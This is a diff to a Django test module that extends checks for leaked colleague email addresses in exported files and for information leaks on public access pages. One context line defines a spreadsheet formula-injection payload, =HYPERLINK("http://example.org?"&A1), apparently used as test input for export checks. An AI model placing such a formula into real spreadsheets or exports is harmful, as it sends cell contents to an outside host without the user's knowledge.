@@ -19,6 +19,7 @@ from safelight.files import actions as files
 from safelight.files.models import AttachedFile
 from safelight.governance import contents
 from safelight.outputs import downloads
+from safelight.sharing.copies import CopyKind
 from tests import printed
 from tests.factories.files import TEXT
 from tests.integration.url_access import ACCESS
@@ -33,8 +34,20 @@ pytestmark = [pytest.mark.django_db, pytest.mark.req("SH-04"), pytest.mark.hazar
 
 FORMULA = '=HYPERLINK("http://example.org?"&A1)'
 SHEETS = ("spreadsheet", "csv", "excel", "tab-separated")
+PAGES_OF_OUTPUTS = {"outputs:documents", "outputs:take"}
+# What comes as one file, or as files of other names than an assessment's forms.
+OTHER_FILES: dict[str, tuple[dict[str, str], ...]] = {
+    "outputs:progress_report": ({},),
+    "outputs:minutes": tuple(
+        {"copy": copy, "extension": extension} for copy in ("record", *CopyKind) for extension in downloads.EXTENSIONS
+    ),
+}
+# Given out only to a form, and only once words stand in it: asked in tests/integration/outputs and young_person.
+BY_FORM = {"outputs:taken", "outputs:young_person"}
 FILES_OF_OUTPUTS = sorted(
-    name for name in ADDRESS_ARGUMENTS if name.startswith("outputs:") and name != "outputs:documents"
+    name
+    for name in ADDRESS_ARGUMENTS
+    if name.startswith("outputs:") and name not in PAGES_OF_OUTPUTS | BY_FORM | OTHER_FILES.keys()
 )
 
 
@@ -57,6 +70,9 @@ def files_of(record: Record) -> Iterator[Arguments]:
         for extension in downloads.EXTENSIONS:
             for form in downloads.ASSESSMENT_FORMS if "form" in arguments else ("",):
                 yield {"name": name, **arguments, "extension": extension, **({"form": form} if form else {})}
+    for name, given in OTHER_FILES.items():
+        for file in given:
+            yield {"name": name, **ADDRESS_ARGUMENTS[name](record), **file}
 
 
 def test_no_file_that_leaves_holds_the_email_address_of_a_colleague(world: World) -> None:
@@ -72,7 +88,9 @@ def test_no_file_that_leaves_holds_the_email_address_of_a_colleague(world: World
         words = everything_in(answer.content)
         assert not [each for each in known if each in words], arguments
         read += 1
-    assert read == 2 * (len(FILES_OF_OUTPUTS) - 1 + len(downloads.ASSESSMENT_FORMS))
+    assert read == 2 * (len(FILES_OF_OUTPUTS) - 1 + len(downloads.ASSESSMENT_FORMS)) + sum(
+        map(len, OTHER_FILES.values())
+    )
 
 
 @pytest.mark.hazard("HZ-37")
@@ -131,9 +149,11 @@ def test_no_door_for_strangers_says_a_word_of_what_came_in_by_it(world: World) -
     for name, word in ACCESS.items():
         if word not in ("public", "door"):
             continue
-        given = {"front_door:choose": {"code": "kestrel-bay"}, "front_door:tell": {"code": "kestrel-bay"}}.get(name, {})
-        if name == "front_door:tell":
-            given = {**given, "kind": "young-person"}
+        given = {
+            "front_door:choose": {"code": "kestrel-bay"},
+            "front_door:tell": {"code": "kestrel-bay", "kind": "young-person"},
+            "delivery:link": {"token": "made-up"},
+        }.get(name, {})
         with taken_back():
             answer = stranger.get(reverse(name, kwargs=given))
         assert answer.status_code == 200, name
